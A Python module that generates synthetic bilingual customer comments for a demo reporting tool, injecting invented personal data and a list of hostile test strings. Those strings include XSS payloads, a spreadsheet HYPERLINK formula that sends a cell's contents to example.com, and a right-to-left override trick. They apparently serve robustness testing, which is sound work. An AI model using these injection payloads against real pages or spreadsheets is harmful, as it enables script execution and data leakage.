"""Comments of the demo company: what people wrote, in two languages, by topic and feeling."""

from __future__ import annotations

from typing import TYPE_CHECKING

import numpy as np
import pandas as pd

from cxreport.demo import phrases_en, phrases_it
from cxreport.demo.identifiers import invent
from cxreport.demo.sampling import (
    Bools,
    Names,
    all_days,
    choose_by_row,
    daytime,
    ids,
    labels,
    months,
    stream,
)
from cxreport.demo.truths import CHANNELS, OUTAGE_MONTH, ROWS

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence

PHRASES = {"it": phrases_it, "en": phrases_en}
TOPICS = tuple(phrases_it.PHRASES)
HOW_OFTEN = {
    "good": (1.2, 0.4, 2.2, 0.8, 0.9, 0.6, 1.8, 0.7, 0.8, 0.6),
    "bad": (2.2, 1.0, 0.5, 1.2, 1.1, 1.3, 0.9, 0.9, 0.7, 0.8),
}
OWN_TOPIC = {"app": "app", "phone": "phone_waiting", "shop": "shop_staff", "web": "website_search"}

SHARES = {"it": 2 / 3, "en": 1 / 3}
FROM_SURVEY, REVIEWS = 3_000, 600
PERSONAL_DATA = {"email": 120, "phone": 100, "iban": 40, "tax_code": 40}
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("https://example.com/?q="&A1,"apri")',
    "\u202eotset otrevni\u202c",
    "👍🏽👩‍👩‍👧 €5 & \"virgolette\" 'apici'",
    "Precipitevolissimevolmente" * 12,
)
HOSTILE_EACH = 4


def make_verbatims(answers: pd.DataFrame, customers: pd.DataFrame, seed: int) -> pd.DataFrame:
    """Return one row per comment: the survey's own, and those of reviews and letters."""
    rng = stream(seed, "verbatims")
    comments = pd.concat(
        [survey_comments(answers, rng), other_comments(customers, rng)], ignore_index=True
    )
    comments = comments.sort_values(["created_at", "customer_id"], kind="stable", ignore_index=True)
    felt = comments["felt"].to_numpy()
    good = (felt >= 4) | ((felt == 3) & (rng.random(len(comments)) < 0.5))
    topic = choose_topics(comments, good, rng)
    text = write(comments["language"], topic, good, rng)
    text = add_lines(text, comments["language"], rng, PERSONAL_DATA, hostile=HOSTILE * HOSTILE_EACH)
    return comments.assign(text_id=ids("V", len(comments), 5), topic=topic, text=text)


def survey_comments(answers: pd.DataFrame, rng: np.random.Generator) -> pd.DataFrame:
    """Return which answers hold a comment; the rating is the satisfaction given, if any."""
    chosen = [
        rng.choice(
            np.flatnonzero(answers["language"] == language),
            round(FROM_SURVEY * share),
            replace=False,
        )
        for language, share in SHARES.items()
    ]
    rows = answers.iloc[np.sort(np.concatenate(chosen))]
    return pd.DataFrame(
        {
            "created_at": rows["answered_at"],
            "customer_id": rows["customer_id"],
            "response_id": rows["response_id"],
            "language": rows["language"],
            "channel": rows["channel"],
            "source": "survey",
            "felt": rows["csat"],
            "rating": rows["csat"].where(rows["csat_given"]),
        }
    )


def other_comments(customers: pd.DataFrame, rng: np.random.Generator) -> pd.DataFrame:
    """Return reviews in the app store and letters, which know no survey answer."""
    n = ROWS["verbatims"] - FROM_SURVEY
    italian = round(ROWS["verbatims"] * SHARES["it"]) - round(FROM_SURVEY * SHARES["it"])
    is_review = np.arange(n) < REVIEWS
    language = np.where(np.arange(n) < italian, "it", "en")
    written_at = daytime(rng, rng.choice(all_days(), n))
    first_of = {
        code: np.flatnonzero(
            (customers["language"] == code) & (customers.index < len(customers) // 2)
        )
        for code in SHARES
    }
    writer = np.where(
        language == "it", rng.choice(first_of["it"], n), rng.choice(first_of["en"], n)
    )
    is_review = rng.permutation(is_review)
    stars = rng.choice(5, n, p=[0.22, 0.13, 0.12, 0.23, 0.30]) + 1
    return pd.DataFrame(
        {
            "created_at": written_at,
            "customer_id": customers["customer_id"].to_numpy()[writer],
            "response_id": None,
            "language": language,
            "channel": np.where(is_review, "app", "web"),
            "source": np.where(is_review, "app_review", "letter"),
            "felt": stars,
            "rating": stars,
        }
    )


def choose_topics(comments: pd.DataFrame, good: Bools, rng: np.random.Generator) -> Names:
    """Return the topic: people speak of their channel, and in the outage of waiting.

    Customers of every channel call for help, so the outage is not only told by those who phoned.
    """
    weights = np.where(good[:, None], HOW_OFTEN["good"], HOW_OFTEN["bad"])
    for channel in CHANNELS:
        weights[(comments["channel"] == channel).to_numpy(), TOPICS.index(OWN_TOPIC[channel])] *= 3
    in_outage = months(comments["created_at"].to_numpy()) == OUTAGE_MONTH
    weights[in_outage & ~good, TOPICS.index("phone_waiting")] *= 16
    return labels(TOPICS, choose_by_row(rng, weights))


def write(language: pd.Series, topic: Names, good: Bools, rng: np.random.Generator) -> list[str]:
    """Return texts: perhaps an opening, what happened, how it was, perhaps a closing."""
    picks = rng.random((len(topic), 7))
    texts = []
    for code, subject, feeling, pick in zip(
        language, topic, np.where(good, "good", "bad"), picks, strict=True
    ):
        words = PHRASES[code]
        what, how = words.PHRASES[subject][feeling]
        openers, closers = words.OPENERS[feeling], words.CLOSERS[feeling]
        parts = [
            openers[int(pick[0] * len(openers))] if pick[1] < 0.5 else "",
            what[int(pick[2] * len(what))],
            how[int(pick[3] * len(how))],
            closers[int(pick[4] * len(closers))] if pick[5] < 0.4 else "",
        ]
        text = " ".join(part for part in parts if part)
        texts.append(text.replace("{n}", str(2 + int(pick[6] * 8))))
    return texts


def add_lines(
    texts: list[str],
    language: pd.Series,
    rng: np.random.Generator,
    personal: Mapping[str, int],
    hostile: Sequence[str],
) -> list[str]:
    """Add invented personal data and hostile text to some comments, one thing each."""
    kinds = [kind for kind, n in personal.items() for _ in range(n)]
    rows = rng.choice(len(texts), len(kinds) + len(hostile), replace=False)
    texts = list(texts)
    for row, kind in zip(rows, kinds, strict=False):
        line = PHRASES[language.iloc[row]].PERSONAL[kind]
        texts[row] += " " + line.format(invent(kind, rng))
    for row, line in zip(rows[len(kinds) :], hostile, strict=True):
        # At the start, where a spreadsheet would take it for a formula.
        texts[row] = line + " " + texts[row]
    return texts
